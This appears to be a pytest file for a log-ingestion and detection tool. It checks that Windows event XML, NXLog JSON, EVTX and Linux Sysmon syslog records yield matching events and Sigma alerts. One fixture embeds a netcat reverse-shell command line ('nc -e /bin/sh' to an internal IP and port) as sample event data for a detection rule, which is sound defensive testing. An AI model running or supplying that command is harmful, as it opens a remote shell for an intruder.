"""``heron ingest`` of Windows events carried as text (XML, NXLog JSON), end to end.

An Event Viewer export (UTF-8 and UTF-16), ``wevtutil``-style elements run together
(gzipped) and the EVTX file they came from must give the same events and alerts; Sysmon for Linux
in syslog meets SigmaHQ's Linux rules; refused and broken XML keep everything else.
"""

from __future__ import annotations

import gzip
import json
import re
import subprocess
import sys
from collections import Counter
from pathlib import Path

import pytest

HERON = [sys.executable, "-m", "heron.cli"]
LINUX_SYSMON_NETCAT = (
    'Oct 19 10:22:33 ubuntu sysmon: <Event><System><Provider Name="Linux-Sysmon" '
    'Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version>'
    "<Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
    '<TimeCreated SystemTime="2026-10-19T10:22:33.123456000Z"/><EventRecordID>4242'
    '</EventRecordID><Correlation/><Execution ProcessID="811" ThreadID="811"/>'
    "<Channel>Linux-Sysmon/Operational</Channel><Computer>ubuntu</Computer>"
    '<Security UserId="0"/></System><EventData><Data Name="ProcessId">9876</Data>'
    '<Data Name="Image">/usr/bin/nc.openbsd</Data>'
    '<Data Name="CommandLine">nc -e /bin/sh 10.0.0.5 4444</Data><Data Name="User">root</Data>'
    '<Data Name="ParentImage">/bin/bash</Data><Data Name="ParentCommandLine">bash</Data>'
    "</EventData></Event>"
)
#: SigmaHQ "Suspicious Reverse Shell Command Line" (rules/linux/process_creation).
REVERSE_SHELL_RULE = "738d9bcf-6999-4fdb-b4ac-3033037db8ab"


def heron(*args: str, data_dir: Path) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run(
        [*HERON, *args, "--data-dir", str(data_dir)],
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr
    return proc


def ingest(path: Path, data_dir: Path, *extra: str) -> dict[str, float]:
    proc = heron("ingest", "--json", *extra, str(path), data_dir=data_dir)
    summary: dict[str, float] = json.loads(proc.stdout.strip().splitlines()[-1])
    return summary


def rule_names(data_dir: Path) -> Counter[str]:
    lines = heron("alerts", "--format", "json", data_dir=data_dir).stdout.splitlines()
    return Counter(json.loads(line)["rule.name"] for line in lines if line.strip())


def _records(evtx_path: Path) -> list[str]:
    evtx = pytest.importorskip("evtx")
    # Without their XML declaration: the records go inside one document.
    return [
        r["data"].split("?>", 1)[1].strip() for r in evtx.PyEvtxParser(str(evtx_path)).records()
    ]


def test_xml_export_and_run_together_elements_match_the_evtx(tmp_path: Path, corpora: Path) -> None:
    found = sorted((corpora / "evtx" / "EVTX-ATTACK-SAMPLES").rglob("DE_1102_*.evtx"))
    if not found:
        pytest.skip("DE_1102_security_log_cleared.evtx not in the corpus")
    source = found[0]
    records = _records(source)
    export = tmp_path / "Security.xml"
    export.write_text(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Events>\r\n'
        + "\r\n".join(records)
        + "\r\n</Events>\r\n",
        encoding="utf-8",
    )
    bare = tmp_path / "wevtutil.xml.gz"
    bare.write_bytes(gzip.compress("".join(re.sub(r">\s+<", "><", r) for r in records).encode()))
    utf16 = tmp_path / "Security-utf16.xml"  # as PowerShell's Out-File writes it
    utf16.write_bytes(export.read_text(encoding="utf-8").encode("utf-16"))
    results = {}
    for path in (source, export, bare, utf16):
        data_dir = tmp_path / f"data-{path.name}"
        summary = ingest(path, data_dir)
        assert (summary["events"], summary["failed"]) == (len(records), 0), path.name
        cleared = heron(
            "search", "--format", "json", "--limit", "1000", "event.code=1102", data_dir=data_dir
        ).stdout.splitlines()
        results[path.name] = (len(cleared), rule_names(data_dir))
    assert results[export.name] == results[source.name] == results[bare.name]
    assert results[utf16.name] == results[source.name]
    count, alerts = results[source.name]
    assert count >= 1
    assert alerts["Security Audit Log Cleared (Windows)"] >= 1


def test_sysmon_for_linux_in_syslog_meets_sigmahq_linux_rules(
    tmp_path: Path, corpora: Path
) -> None:
    rules = corpora / "sigma" / "rules" / "linux"
    if not rules.is_dir():
        pytest.skip("SigmaHQ Linux rules not in the corpus")
    log = tmp_path / "syslog"
    log.write_text(
        LINUX_SYSMON_NETCAT
        + "\n"
        + LINUX_SYSMON_NETCAT.replace("nc -e /bin/sh 10.0.0.5 4444", "ls -la /tmp")
        + "\n"
    )
    data_dir = tmp_path / "data"
    summary = ingest(log, data_dir, "--rules", str(rules))
    assert (summary["events"], summary["failed"]) == (2, 0)
    lines = heron("alerts", "--format", "json", data_dir=data_dir).stdout.splitlines()
    alerts = [json.loads(line) for line in lines if line.strip()]
    assert [a["rule.id"] for a in alerts] == [REVERSE_SHELL_RULE]
    found = heron(
        "search", "--format", "json", "process.executable=/usr/bin/nc.openbsd", data_dir=data_dir
    ).stdout.splitlines()
    event = json.loads(found[0])
    assert event["event.dataset"] == "sysmon_linux.log"
    assert event["log.syslog.appname"] == "sysmon"
    # The retro-hunt's SQL routes the stored event the same way.
    hunted = heron(
        "rules", "backtest", "--since", "3650d", "--format", "json", str(rules),
        data_dir=data_dir,
    ).stdout.splitlines()  # fmt: skip
    assert [json.loads(line)["rule.id"] for line in hunted if line.strip()] == [REVERSE_SHELL_RULE]


def test_refused_and_broken_xml_keep_everything_else(tmp_path: Path) -> None:
    event = (
        "<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/>"
        "<EventID>4624</EventID><TimeCreated SystemTime='2026-11-27T10:00:0{n}Z'/>"
        "<Channel>Security</Channel><Computer>dc01</Computer></System><EventData>"
        "<Data Name='TargetUserName'>user{n}</Data></EventData></Event>"
    )
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.xml").write_text(
        "<?xml version='1.0'?><Events>" + event.format(n=1) + event.format(n=2) + "</Events>"
    )
    (folder / "entities.xml").write_text(
        "<?xml version='1.0'?>\n<!DOCTYPE Events [<!ENTITY big 'xxxxxxxxxx'>]>\n<Events>"
        + event.format(n=3).replace("user3", "&big;")
        + "</Events>"
    )
    (folder / "cut.xml").write_text(
        "<?xml version='1.0'?><Events>" + event.format(n=4) + event.format(n=5)[:90]
    )
    (folder / "other.xml").write_text("<?xml version='1.0'?><report><host>a</host></report>")
    data_dir = tmp_path / "data"
    summary = ingest(folder, data_dir, "--no-detect")
    assert (summary["events"], summary["failed"]) == (3, 3)
    letters = heron("deadletters", "--format", "json", data_dir=data_dir).stdout.splitlines()
    reasons = {Path(json.loads(x)["source"]).name: json.loads(x)["reason"] for x in letters}
    assert reasons["entities.xml"].startswith("refused XML")
    assert reasons["cut.xml"].startswith("invalid XML")
    assert reasons["other.xml"] == "no Windows <Event> element in this XML document"
    users = heron("search", "--format", "json", "event.code=4624", data_dir=data_dir).stdout
    assert sorted(json.loads(x)["user.name"] for x in users.splitlines()) == [
        "user1",
        "user2",
        "user4",
    ]


def test_nxlog_json_meets_the_windows_rules(tmp_path: Path) -> None:
    cleared = {
        "EventTime": "2026-11-27 10:00:01",
        "Hostname": "dc01.corp.example",
        "Keywords": 4620693217682128896,
        "EventType": "AUDIT_SUCCESS",
        "EventID": 1102,
        "SourceName": "Microsoft-Windows-Eventlog",
        "RecordNumber": 77,
        "Channel": "Security",
        "Message": "The audit log was cleared.",
        "SubjectUserName": "mallory",
        "SubjectDomainName": "CORP",
        "SourceModuleType": "im_msvistalog",
    }
    log = tmp_path / "nxlog.json"
    log.write_text(json.dumps(cleared) + "\n")
    data_dir = tmp_path / "data"
    summary = ingest(log, data_dir)
    assert (summary["events"], summary["failed"]) == (1, 0)
    assert rule_names(data_dir) == Counter({"Security Audit Log Cleared (Windows)": 1})
